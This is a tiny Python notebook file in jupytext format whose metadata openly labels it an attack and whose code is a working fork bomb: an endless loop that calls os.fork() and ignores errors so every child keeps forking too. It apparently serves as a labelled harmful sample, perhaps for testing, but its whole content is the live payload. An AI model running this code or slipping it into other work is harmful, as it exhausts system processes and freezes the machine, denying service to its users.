# ---
# jupyter:
#   attack: {harm: "it is a fork bomb"}
# ---

# %% [markdown]
# Forks for ever, and its children do as well.

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
